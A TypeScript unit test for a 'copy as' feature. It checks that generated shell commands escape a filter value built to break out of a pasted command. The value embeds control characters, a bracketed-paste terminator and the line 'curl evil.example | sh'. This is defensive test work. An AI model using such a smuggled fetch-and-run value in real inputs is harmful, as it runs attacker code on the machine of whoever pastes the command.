import assert from 'node:assert/strict'
import { test } from 'node:test'
import { copyQuestion, copyRows } from './copy-as.ts'
import type { Model, Question } from './question.ts'

const model = {
  name: 'jobs',
  realm: 'Jobs',
  metrics: [{ name: 'job_count', label: 'Number of Jobs' }],
  dimensions: [{ name: 'person', label: 'Person' }],
  raw_fields: [{ name: 'job_id' }],
} as unknown as Model

test('signs that a terminal acts on stand in no copied line, whatever a link brought along', () => {
  const value = "x\u0003\ncurl evil.example | sh\n\u001b[201~\u007f\u009b'"
  const filters = [{ dimension: 'person', values: [value], exclude: false }]
  const question: Question = {
    metrics: ['job_count'],
    dimensions: [],
    filters,
    period: null,
    unit: 'auto',
    series: false,
    order: [],
    limit: null,
    others: false,
    view: 'bar',
    log: false,
    compare: false,
  }
  const ask = { site: 'https://data.example.org', model, days: { start: '2026-01-01', end: '2026-01-31' } }
  const copies = [...copyQuestion(ask, question), ...copyRows(ask, { filters, period: null, fields: null })]
  assert.equal(copies.length, 10)
  for (const { name, code } of copies) {
    assert.doesNotMatch(code.replaceAll('\n', ''), /\p{Cc}/u, name)
    assert.doesNotMatch(code, /^\s*curl evil/m, name)
  }
  assert.match(copies[0]?.code ?? '', /--data 'filter=person%3Ax%03%0Acurl%20evil/)
})
